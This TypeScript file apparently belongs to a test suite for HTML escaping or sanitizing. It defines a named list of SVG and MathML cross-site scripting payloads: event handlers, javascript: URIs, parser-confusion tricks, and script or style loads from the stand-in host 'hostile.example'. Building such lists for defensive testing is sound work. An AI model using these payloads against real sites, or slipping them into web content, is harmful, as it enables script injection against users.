/** SVG and MathML: text as well. */
import { type Group, plain } from "./payload";

export const SVG: Group = {
  name: "SVG and MathML",
  verbatim: true,
  payloads: plain({
    "a drawing that loads": "<svg onload=pwned()>",
    "a script in a drawing": "<svg><script>pwned()</script></svg>",
    "a script with an address": '<svg><script href="https://hostile.example/s.js" /></svg>',
    "an image in a drawing": '<svg><image href="https://hostile.example/i.png" onerror="pwned()"/></svg>',
    "a use of elsewhere": '<svg><use href="https://hostile.example/u.svg#x"/></svg>',
    "a use of data": '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()></svg>#x"/></svg>',
    "an animation of an address":
      "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=9>x</text></a></svg>",
    "a set of a handler": '<svg><set attributeName="onmouseover" to="pwned()"/><text>x</text></svg>',
    "an animation that begins": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "HTML in a drawing":
      "<svg><foreignObject><iframe src=javascript:parent.pwned()></iframe></foreignObject></svg>",
    "a style in a drawing": "<svg><style>@import '//hostile.example/s.css';</style></svg>",
    "a filter of elsewhere": '<svg><filter><feImage href="https://hostile.example/f.png"/></filter></svg>',
    "a description that switches": "<svg><desc><img src=x onerror=pwned()></desc></svg>",
    "a handler of events":
      '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">pwned()</handler></svg>',
    "a link in a formula": '<math><mtext href="javascript:pwned()">x</mtext></math>',
    "an action in a formula":
      '<math><maction actiontype="statusline#https://hostile.example/" href="javascript:pwned()">x</maction></math>',
    "a switch out of a formula":
      "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "an annotation in HTML":
      '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  }),
};
